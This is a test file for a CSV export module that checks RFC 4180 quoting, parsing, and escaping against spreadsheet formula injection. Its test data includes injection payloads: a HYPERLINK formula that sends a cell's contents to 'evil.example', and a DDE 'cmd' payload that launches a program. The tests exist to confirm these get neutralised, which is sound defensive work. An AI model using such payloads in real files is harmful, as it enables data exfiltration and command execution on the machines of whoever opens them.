// CSV: RFC 4180 quoting, CRLF, and formula-injection escaping.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { changeLogCsv, escapeCell, parseCsv, planCsv, resultCsv, subscriptionsCsv, toCsv, type BulkResult } from '../../../src/bulk';

test('RFC 4180 quoting and CRLF line ends', () => {
  assert.equal(escapeCell('plain'), 'plain');
  assert.equal(escapeCell('a,b'), '"a,b"');
  assert.equal(escapeCell('say "hi"'), '"say ""hi"""');
  assert.equal(escapeCell('two\nlines'), '"two\nlines"');
  assert.equal(escapeCell('cr\rhere'), '"cr\rhere"');
  assert.equal(escapeCell(undefined), '');
  assert.equal(escapeCell(null), '');
  assert.equal(escapeCell(42), '42');
  assert.equal(toCsv([['a', 'b'], ['c,d', '']]), 'a,b\r\n"c,d",\r\n');
  assert.equal(toCsv([['x']], { bom: true }), '\uFEFFx\r\n');
});

test('cells that a spreadsheet would run as a formula are escaped', () => {
  for (const bad of ['=1+1', '+SUM(A1)', '-2+3', '@cmd', '\t=x', '\r=x']) {
    assert.ok(escapeCell(bad).replace(/^"/, '').startsWith("'"), JSON.stringify(bad));
  }
  assert.equal(escapeCell('=HYPERLINK("http://x","y")'), '"\'=HYPERLINK(""http://x"",""y"")"');
  assert.equal(escapeCell('a=b'), 'a=b');
});

test('subscription, plan and change-log exports', () => {
  const contact = { supportTenantId: 'aaaaaaaa-1111-4111-8111-111111111111', supportMpnId: '4391507', name: '=evil, "Inc"' };
  const subs = subscriptionsCsv([{ customerId: 'c1', customerName: '<b>Fabrikam</b> & Sons', subscriptionId: 's1', subscriptionName: 'Office', status: 'active', nce: false, contact }]);
  const lines = subs.split('\r\n');
  assert.equal(lines.length, 3);
  assert.equal(lines[2], '');
  assert.ok(lines[0].startsWith('Customer,Customer ID,'));
  assert.equal(lines[1], `<b>Fabrikam</b> & Sons,c1,Office,s1,,active,no,"'=evil, ""Inc""",4391507,${contact.supportTenantId}`);
  const plan = planCsv({ created: '', target: contact, items: [{ customerId: 'c', subscriptionId: 's', subscriptionName: '-x', current: null, target: contact, action: 'skip', reason: 'nce', reasonText: 'NCE' }] });
  assert.match(plan.split('\r\n')[1], /^,c,'-x,s,,,,/);
  const log = changeLogCsv([{ time: 't', account: '@me', customerId: 'c', subscriptionId: 's', old: null, new: contact, requestId: 'r', outcome: 'failed', error: { kind: 'service', message: '+boom' } }]);
  assert.ok(log.split('\r\n')[1].startsWith("t,'@me,,c,,s,,,,"));
  assert.ok(log.includes(",failed,'+boom,r,"));
});

// A cell the writer must guard: starting with = + - @, tab or CR.
const formulaCell = /^[=+\-@\t\r]/;
// A piece a `;`-splitting spreadsheet could run as a formula: = + - @ after any blanks, line breaks or
// quotes (stricter than a spreadsheet, to be safe).
const formulaPiece = /^[\s"]*[=+\-@]/;

const hostile = [
  'Contoso;=HYPERLINK("http://evil.example/?"&A1,"Click")',
  'Contoso;=1+1',
  'Fabrikam; -2+3',
  'Tail;"=cmd|\' /C calc\'!A0"',
  'Wing;@SUM(A1)',
  'semi;',
  ';+1',
  'Two\n=lines',
  'Three\r\n@lines',
  'Four\r=x',
  'a;b;c',
  'plain, with comma',
];

test('a `;` makes a cell quoted, and what follows a `;` or a line break cannot start a formula', () => {
  assert.equal(escapeCell('a;b'), '"a;b"');
  assert.equal(escapeCell('Contoso;=1+1'), `"Contoso;'=1+1"`);
  assert.equal(escapeCell('Contoso;=HYPERLINK("http://x","y")'), `"Contoso;'=HYPERLINK(""http://x"",""y"")"`);
  assert.equal(escapeCell('x; -1'), `"x;' -1"`);
  assert.equal(escapeCell('Two\n=lines'), `"Two\n'=lines"`);
  assert.equal(escapeCell('Three\r\n@x'), `"Three\r\n'@x"`, 'CRLF is one break');
  assert.equal(escapeCell('a;b=c'), '"a;b=c"', 'only what starts a piece is guarded');
  assert.equal(escapeCell('=a;=b'), `"'=a;'=b"`);
});

test('an export read back: the same cells with a `,` parser, and no formula cell when a `;` locale splits it', () => {
  const rows = [['Customer', 'Subscription', 'Contact'], ...hostile.map((h, n) => [h, `Sub ${n}`, hostile[(n + 1) % hostile.length]])];
  const csv = toCsv(rows, { bom: true });
  // Round trip through the module's own parser: every cell comes back, with only the guards added.
  const back = parseCsv(csv);
  assert.equal(back.length, rows.length);
  back.forEach((row, r) => row.forEach((cell, c) => {
    assert.equal(cell.replace(/(^|;|\r\n|\r|\n)'/g, '$1'), rows[r][c], `row ${r} cell ${c}`);
    assert.ok(!formulaCell.test(cell), `row ${r} cell ${c} starts a formula: ${JSON.stringify(cell)}`);
  }));
  // Read the way Excel in a `;` locale does: split on `;`, quotes honoured only at a piece's start,
  // so a quoted cell's `;` and line breaks split it. No piece may start a formula.
  const pieces = parseCsv(csv, { separator: ';' }).flat();
  assert.ok(pieces.length >= rows.length + 5, 'the `;` reading did not split the cells');
  for (const piece of pieces) assert.ok(!formulaPiece.test(piece), `a ;-split piece starts a formula: ${JSON.stringify(piece)}`);
  // The raw text: no `;` or line break is followed by a formula start.
  assert.ok(!/(;|\r\n|\r|\n)(?=[\t\r]|[\s"]*[=+\-@])/.test(csv), 'raw text');
});

test('parseCsv: RFC 4180 quoting, doubled quotes, CRLF/LF, a BOM, a last line without a line break', () => {
  assert.deepEqual(parseCsv('\uFEFFa,"b,c","say ""hi"""\r\n"two\r\nlines",\nlast'), [['a', 'b,c', 'say "hi"'], ['two\r\nlines', ''], ['last']]);
  assert.deepEqual(parseCsv(''), []);
  assert.deepEqual(parseCsv('x,"a;b"\r\n', { separator: ';' }), [['x,"a', 'b"']]);
});

test('the result export of a run-time skip and a 5xx failure keeps the reason and both ids', () => {
  const contact = { supportTenantId: 'aaaaaaaa-1111-4111-8111-111111111111', supportMpnId: '4391507', name: 'Tail;=evil' };
  const item = { customerId: 'c', customerName: 'Contoso;=1+1', subscriptionId: 's', subscriptionName: 'Office', current: null, target: contact, action: 'change' as const, reasonText: '' };
  const result: BulkResult = {
    runId: 'r', journalFile: 'j', account: 'a', target: contact, complete: true, cancelled: false,
    counts: { done: 2, changed: 0, skipped: 1, failed: 1, total: 2, changeItems: 2 }, changed: [], notRun: [],
    skipped: [{ index: 0, item, reason: 'changedSincePreview', reasonText: 'Changed since the preview: now X', current: contact }],
    failed: [{ index: 1, item, requestId: 'req-1', stage: 'put', error: { kind: 'service', status: 503, message: 'Partner Center had a problem (503)', requestId: 'req-1', correlationId: 'corr-1' } }],
  };
  const rows = parseCsv(resultCsv(result));
  assert.deepEqual(rows[1].slice(4, 6), ['skipped', 'changedSincePreview']);
  assert.deepEqual(rows[2].slice(4), ['failed', '', 'service', 'Partner Center had a problem (503)', 'req-1', 'corr-1']);
  assert.equal(rows[1][0], "Contoso;'=1+1");
});

test('fuzz: no cell starts a formula, whether a reader splits on commas, semicolons or tabs', () => {
  const parts = ['=', '+', '-', '@', ' ', '\u00a0', '\u3000', '\t', ';', ',', '\n', '\r\n', '\r', '"', "'", 'x', 'SUM(A1)', 'cmd|\' /C calc\'!A0', '1'];
  let seed = 7;
  const next = () => { seed = (seed * 1103515245 + 12345) % 2147483648; return seed / 2147483648; };
  const cells = Array.from({ length: 6000 }, () => Array.from({ length: 1 + Math.floor(next() * 6) }, () => parts[Math.floor(next() * parts.length)]).join(''));
  const text = toCsv([['a', 'b'], ...cells.map((c, i) => [c, String(i)])]);
  const formula = /^[\s\u00a0\u3000\ufeff]*[=+\-@]/;
  for (const separator of [',', ';', '\t']) {
    const bad = parseCsv(text, { separator }).flat().filter((cell) => formula.test(cell));
    assert.deepEqual(bad.slice(0, 5), [], `reading with ${JSON.stringify(separator)}: ${bad.length} formula cells`);
  }
  // What a cell held comes back (after the guard's leading quote) when read with the right separator.
  const back = parseCsv(text).slice(1).map((r) => r[0]);
  cells.forEach((c, i) => assert.equal(back[i].replace(/^'/, '').replace(/([;\t\n\r])'/g, '$1'), c.replace(/^'/, '').replace(/([;\t\n\r])'/g, '$1')));
  assert.equal(escapeCell(' =1+1'), "' =1+1");
  assert.equal(escapeCell('\u00a0@SUM(A1)'), "'\u00a0@SUM(A1)");
  assert.equal(escapeCell('a\t=1'), "\"a\t'=1\"");
});
